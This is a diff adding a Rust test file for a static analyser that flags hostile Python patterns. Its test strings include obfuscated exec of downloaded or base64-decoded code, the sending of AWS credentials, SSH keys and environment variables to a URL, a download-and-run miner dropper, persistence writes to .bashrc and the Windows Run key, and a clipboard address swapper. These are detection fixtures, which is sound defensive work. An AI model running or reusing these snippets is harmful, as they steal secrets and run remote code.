@@ -1,0 +1,254 @@
+//! The shapes issue 19 names, as source: each must give its flow or call, and its honest twin
+//! must not.
+
+use crate::{Sink, Source, analyse};
+
+fn flows(source: &str) -> Vec<(Source, Sink)> {
+    analyse(source)
+        .flows
+        .iter()
+        .map(|f| (f.source, f.sink))
+        .collect()
+}
+
+fn has(source: &str, from: Source, to: Sink) -> bool {
+    flows(source).contains(&(from, to))
+}
+
+#[test]
+fn network_read_into_exec_through_aliases_and_variables() {
+    assert!(has(
+        "import requests as rs\nexec(rs.get(u).text)",
+        Source::Network,
+        Sink::Exec
+    ));
+    assert!(has(
+        "import requests\np = requests.get(u).text\nx = 1\nexec(p)",
+        Source::Network,
+        Sink::Exec
+    ));
+    assert!(has(
+        "from urllib.request import urlopen as o\nd = o(u)\nc = d.read().decode()\nexec(c)",
+        Source::Network,
+        Sink::Exec
+    ));
+    assert!(has(
+        "import urllib2\ndef fetch(u):\n    return urllib2.urlopen(u).read()\nexec(fetch(x))",
+        Source::Network,
+        Sink::Exec
+    ));
+    // through a function's parameter
+    assert!(has(
+        "import requests\ndef run(code):\n    exec(code)\nrun(requests.get(u).text)",
+        Source::Network,
+        Sink::Exec
+    ));
+}
+
+#[test]
+fn spacing_and_lookalike_letters_do_not_hide_a_call() {
+    assert!(has(
+        "import base64\nexec (base64.b64decode (s))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+    // mathematical monospace and fullwidth letters are NFKC-equal to `exec`
+    assert!(has(
+        "import base64\n𝚎𝚡𝚎𝚌(base64.b64decode(s))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+    assert!(has(
+        "import base64\nｅｘｅｃ(base64.b64decode(s))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+}
+
+#[test]
+fn builtins_reached_by_lookup() {
+    assert!(has(
+        "import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode(s))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+    assert!(has(
+        "import base64\ne = __builtins__.__dict__['eval']\ne(base64.b64decode(s))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+    assert!(has(
+        "m = __import__('ba' + 'se64')\ngetattr(__import__('builtins'), ''.join(['e','x','e','c']))(m.b64decode(s))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+    assert!(has(
+        "import marshal as m\nexec(m.loads(blob))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+    // the name of the function, folded from chr codes and a reversed string
+    assert!(has(
+        "import base64\nf = getattr(__builtins__, 'cexe'[::-1])\nf(base64.b64decode(s))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+}
+
+#[test]
+fn executed_constants_are_analysed() {
+    // base64 of `import requests;exec(requests.get(u).text)`
+    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IHJlcXVlc3RzO2V4ZWMocmVxdWVzdHMuZ2V0KHUpLnRleHQp'))";
+    assert!(has(src, Source::Network, Sink::Exec));
+}
+
+#[test]
+fn credentials_and_environment_sent() {
+    assert!(has(
+        "import os, requests\nk = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post(u, data=k)",
+        Source::Credential,
+        Sink::Send
+    ));
+    assert!(has(
+        "import os, json, urllib.request as r\nbody = json.dumps(dict(os.environ)).encode()\nr.urlopen(r.Request(u, data=body))",
+        Source::Environ,
+        Sink::Send
+    ));
+    assert!(has(
+        "import socket, requests\nrequests.get(u, params={'h': socket.gethostname()})",
+        Source::Host,
+        Sink::Send
+    ));
+    // a file zipped up and sent
+    assert!(has(
+        "import zipfile, requests\nz = zipfile.ZipFile('o.zip', 'w')\nz.write('/home/u/.ssh/id_rsa')\nrequests.post(u, files={'f': z})",
+        Source::Credential,
+        Sink::Send
+    ));
+}
+
+#[test]
+fn honest_twins_give_no_flow() {
+    // a token from the environment sent to its own API is how every client works
+    assert!(
+        flows(
+            "import os, requests\nrequests.get(u, headers={'Authorization': os.environ['TOKEN']})"
+        )
+        .is_empty()
+    );
+    assert!(flows("import ast, base64\nast.literal_eval(base64.b64decode(s).decode())").is_empty());
+    assert!(
+        flows("import re, base64\nP = re.compile(base64.b64decode(b'XHcr').decode())").is_empty()
+    );
+    assert!(flows("exec(compile(open('version.py').read(), 'version.py', 'exec'))").is_empty());
+    assert!(flows("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])").is_empty());
+    // excluding .env from an archive is not reading it
+    assert!(
+        flows("import zipfile\nEXCLUDE = ['.env', '.git']\nz = zipfile.ZipFile('o.zip', 'w')")
+            .is_empty()
+    );
+}
+
+#[test]
+fn downloads_that_run() {
+    let miner = "import subprocess, os\nsubprocess.call(['curl', '-s', '-o', '/tmp/xm', 'http://h/xm'])\nos.chmod('/tmp/xm', 0o755)\nsubprocess.Popen(['/tmp/xm'], preexec_fn=os.setsid)";
+    let a = analyse(miner);
+    assert!(
+        a.calls
+            .iter()
+            .any(|c| c.sink == Sink::Process && c.text.contains("curl"))
+    );
+    let drop = "import requests, os, subprocess\nr = requests.get(u)\nwith open('/tmp/.x', 'wb') as f:\n    f.write(r.content)\nos.chmod('/tmp/.x', 0o755)\nsubprocess.Popen('/tmp/.x')";
+    assert!(has(drop, Source::Download, Sink::Process));
+    assert!(has(drop, Source::Download, Sink::Chmod));
+}
+
+#[test]
+fn persistence_writes() {
+    let a = analyse(
+        "import os\nwith open (os.path.expanduser ('~/.bashrc'), 'a') as f:\n    f.write('~/.drv &\\n')",
+    );
+    assert!(
+        a.calls.iter().any(|c| c.sink == Sink::Persist),
+        "{:?}",
+        a.calls
+    );
+    let a = analyse(
+        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, exe)",
+    );
+    assert!(
+        a.calls.iter().any(|c| c.sink == Sink::Persist),
+        "{:?}",
+        a.calls
+    );
+    let a = analyse("with open('setup.cfg', 'w') as f:\n    f.write(cfg)");
+    assert!(!a.calls.iter().any(|c| c.sink == Sink::Persist));
+}
+
+#[test]
+fn clipboard_and_hidden_carriers() {
+    let a = analyse(
+        "import pyperclip, re\nwhile True:\n    t = pyperclip.paste()\n    if re.match(P, t):\n        pyperclip.copy('bc1qattacker')",
+    );
+    assert!(a.seen.iter().any(|(s, _)| *s == Source::Clipboard));
+    assert!(
+        a.calls
+            .iter()
+            .any(|c| c.sink == Sink::Clipboard && c.constant)
+    );
+    assert!(has(
+        "from stegano import lsb\nexec(lsb.reveal('x.png'))",
+        Source::Hidden,
+        Sink::Exec
+    ));
+}
+
+#[test]
+fn docstrings_and_comments_are_inert_unless_read() {
+    let src =
+        "def f():\n    \"\"\">>> exec(b64decode(x))\"\"\"\n    return 1  # exec(b64decode(y))\n";
+    let a = analyse(src);
+    assert_eq!(a.inert.len(), 2);
+    assert!(a.flows.is_empty());
+    let view = crate::code_view(src.as_bytes(), &a.inert);
+    assert!(!String::from_utf8(view.clone()).unwrap().contains("exec"));
+    assert_eq!(view.len(), src.len());
+    let a = analyse("\"\"\"payload\"\"\"\nimport base64\nexec(base64.b64decode(__doc__))");
+    assert!(a.reads_own_source && a.inert.is_empty());
+}
+
+#[test]
+fn python2_and_broken_code_still_analysed() {
+    let a = analyse("print 'x'\nimport base64\nexec(base64.b64decode(s))\n");
+    assert!(a.errors > 0);
+    assert!(
+        a.flows
+            .iter()
+            .any(|f| f.source == Source::Decoded && f.sink == Sink::Exec)
+    );
+}
+
+#[test]
+fn hostile_nesting_is_bounded() {
+    let deep = format!("x = {}1{}", "(".repeat(5000), ")".repeat(5000));
+    let a = analyse(&deep);
+    assert!(a.errors > 0 || a.truncated || a.flows.is_empty());
+    let calls = format!("exec({}s{})", "f(".repeat(3000), ")".repeat(3000));
+    assert!(analyse(&calls).truncated);
+    let lists = format!("x = {}1{}", "[".repeat(3000), "]".repeat(3000));
+    let _ = analyse(&lists);
+}
+
+#[test]
+fn evidence_names_both_ends() {
+    let a = analyse("import requests\n\np = requests.get(u).text\n\n\nexec(p)\n");
+    let f = a
+        .flows
+        .iter()
+        .find(|f| f.sink == Sink::Exec)
+        .expect("a flow");
+    assert_eq!(f.from.line, 3);
+    assert_eq!(f.from.text, "requests.get(u)");
+    assert_eq!(f.to.line, 6);
+    assert_eq!(f.to.text, "exec(p)");
+}
